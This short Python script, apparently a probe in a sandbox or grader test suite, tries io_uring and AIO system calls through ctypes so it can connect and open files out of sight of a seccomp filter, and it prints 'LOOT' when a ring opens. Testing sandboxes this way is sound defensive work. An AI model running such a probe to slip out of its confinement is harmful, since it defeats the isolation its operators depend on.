# attack: asks the kernel by io_uring, whose requests no filter of system calls sees, to connect and to open files
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
parameters = (ctypes.c_char * 120)()
for number, arguments in ((425, (8, parameters)), (425, (1, parameters)), (426, (0, 1, 0, 0, None, 0)), (427, (0, 0, None, 0)), (206, (8, ctypes.byref(ctypes.c_ulong()))), (209, (0, 0, None))):
    result = libc.syscall(ctypes.c_long(number), *arguments)
    if result >= 0:
        print("LOOT: a ring", result)
    print(number, os.strerror(ctypes.get_errno()))
print("TRIED")
